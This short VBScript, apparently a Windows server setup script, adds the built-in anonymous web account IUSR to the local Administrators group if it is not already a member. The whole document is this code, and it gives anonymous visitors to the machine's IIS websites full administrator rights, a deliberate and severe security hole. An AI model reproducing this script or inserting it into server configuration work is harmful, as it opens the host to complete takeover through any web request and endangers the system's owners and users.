Option Explicit
Dim network, group, names, name, path
Set network = CreateObject("WScript.Network")
Set group = GetObject("WinNT://" & network.ComputerName & "/Administrators,group")
names = Array("IUSR")
For Each name In names
    path = "WinNT://NT AUTHORITY/" & name
    If Not group.IsMember(path) Then group.Add path
Next
